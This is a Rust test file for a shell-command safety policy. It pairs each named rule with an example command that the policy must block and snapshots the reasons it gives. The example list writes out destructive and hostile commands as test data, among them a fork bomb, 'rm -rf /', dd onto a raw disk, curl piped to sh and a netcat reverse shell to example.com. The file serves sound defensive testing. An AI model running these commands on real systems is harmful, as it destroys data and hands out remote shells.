//! Every rule has a command that it stops, and what is then said to people is kept as it was reviewed.

use super::{REASONS, is_catastrophe};
use crate::policy::Policy;
use crate::state::ShellState;
use crate::subject::Subject;
use crate::verdict::{Mode, Verdict};

/// Rule, and a command for which it is the first one named.
const EXAMPLES: &[(&str, &str)] = &[
    ("accounts", "useradd alice"),
    ("boot", "update-grub"),
    ("clock", "date -s 12:00"),
    ("cluster-change", "kubectl delete pod web-0"),
    ("container-change", "docker rm web"),
    ("container-host", "docker run --privileged alpine ls"),
    ("database-change", "psql -c 'drop table t'"),
    ("database-script", "psql -f migrate.sql"),
    ("delete", "rm old.log"),
    ("destroys", "newtool volume destroy x"),
    ("device", "smartctl -t short /dev/sda"),
    ("download-and-run", "curl -s https://example.com/x | sh"),
    ("environment", "export PATH=/tmp:$PATH"),
    ("extra-denylist", "deployctl now"),
    ("firewall", "iptables -A INPUT -j DROP"),
    ("fork-bomb", ":(){ :|:& };:"),
    ("format", "mkfs.ext4 /dev/sdb1"),
    ("git-discard", "git reset --hard"),
    ("git-force", "git push --force"),
    ("git-hooks", "cp x .git/hooks/pre-commit"),
    ("git-rewrite", "git filter-branch --all"),
    ("history", "history -c"),
    ("infrastructure-change", "terraform apply"),
    ("kernel-module", "modprobe dummy"),
    ("kernel-setting", "sysctl -w vm.swappiness=1"),
    ("kill-all", "kill -9 -1"),
    ("login-keys", "ssh-add -D"),
    ("logs", "journalctl --vacuum-time=1d"),
    ("mount", "umount /srv"),
    ("network-change", "ip link set eth0 down"),
    ("network-listen", "python3 -m http.server"),
    ("network-send", "curl -d a=1 https://example.com"),
    ("network-shell", "nc -e /bin/sh example.com 4444"),
    ("network-socket", "exec 3<>/dev/tcp/example.com/80"),
    ("network-tunnel", "ssh -L 1:b:2 web"),
    ("not-readonly", "touch a"),
    ("opaque", r#"echo "unclosed"#),
    ("overwrite", "dd if=/dev/zero of=data.db"),
    ("package-change", "apt-get install jq"),
    ("path-directory", "cp x /usr/local/bin/y"),
    ("permissions", "chmod -R 777 ."),
    ("power", "reboot"),
    ("privileged-edit", "sudo -e /etc/hosts"),
    ("privileged-shell", "sudo -i"),
    ("process-kill", "pkill nginx"),
    ("process-setting", "taskset -p 1 1"),
    ("raw-device", "dd if=/dev/zero of=/dev/sda"),
    ("redefined", "ls() { cat x; }"),
    ("remote-shell", "ssh web"),
    ("remote-write", "scp a web:"),
    ("repository-change", "npm publish"),
    ("root-delete", "rm -rf /"),
    ("root-move", "mv / /old"),
    ("root-permissions", "chmod -R 777 /"),
    ("runs-code", "python3 -c 'import os; os.system(x)'"),
    ("runs-option", "curl -K options"),
    ("runs-written-file", "curl -o x https://example.com/x && sh x"),
    ("runtime-command", "$cmd"),
    ("scheduled", "crontab -r"),
    ("secret-change", "pass rm web"),
    ("security-setting", "setenforce 0"),
    ("service-change", "systemctl restart nginx"),
    ("shell-on-stdin", "bash"),
    ("startup-file", "echo x >> ~/.bashrc"),
    ("sysrq", "echo b > /proc/sysrq-trigger"),
    ("system-path", "cp a /etc/hosts"),
    ("system-setting", "hostname x"),
    ("too-complex", "walk() { ls; walk; }; walk"),
    ("trap", "trap 'ls' DEBUG"),
    ("truncate", "truncate -s 0 a.log"),
    ("types-into-terminal", "tmux send-keys x"),
    ("unknown-as-root", "sudo frobnicate --all"),
    ("unknown-path", r#"echo x > "$file""#),
    ("unknown-program", "frobnicate --all"),
    ("vital-account", "userdel -r root"),
    ("vital-file", "rm /etc/passwd"),
    ("volume-change", "lvreduce -L1G vg/a"),
    ("wrapper-option", "timeout --odd 5 ls"),
];

#[test]
fn every_rule_has_an_example_and_every_example_a_rule() {
    let rules: Vec<&str> = REASONS.iter().map(|(rule, _)| *rule).collect();
    let shown: Vec<&str> = EXAMPLES.iter().map(|(rule, _)| *rule).collect();
    assert_eq!(rules, shown, "both lists are sorted by rule");
}

#[test]
fn every_example_is_stopped_by_its_rule_with_the_reviewed_words() {
    let policy = Policy::from_toml("extra_denylist = [\"deployctl\"]\n").unwrap();
    let mut told = String::new();
    for (rule, command) in EXAMPLES {
        let mode = if *rule == "not-readonly" { Mode::Readonly } else { Mode::Guarded };
        let subject = Subject { mode: Some(mode), ..Subject::anywhere("local") };
        let judgement = policy.judge(&subject, &ShellState::default(), command);
        assert_eq!(judgement.rules.first().map(String::as_str), Some(*rule), "{command}");
        assert_ne!(judgement.verdict, Verdict::Allow, "{command}");
        told.push_str(&format!("{rule}: {}: {}\n", judgement.verdict, judgement.reason));
    }
    insta::assert_snapshot!("reasons", told);
}

#[test]
fn every_rule_of_the_tables_has_a_reason() {
    let rows = crate::tables::rules();
    let missing: Vec<&str> =
        rows.filter(|rule| !rule.is_empty() && !REASONS.iter().any(|(known, _)| known == rule)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

#[test]
fn a_hard_block_is_one_of_the_rules() {
    assert!(super::CATASTROPHES.iter().all(|rule| REASONS.iter().any(|(known, _)| known == rule)));
    assert!(is_catastrophe("root-delete") && !is_catastrophe("delete"));
}
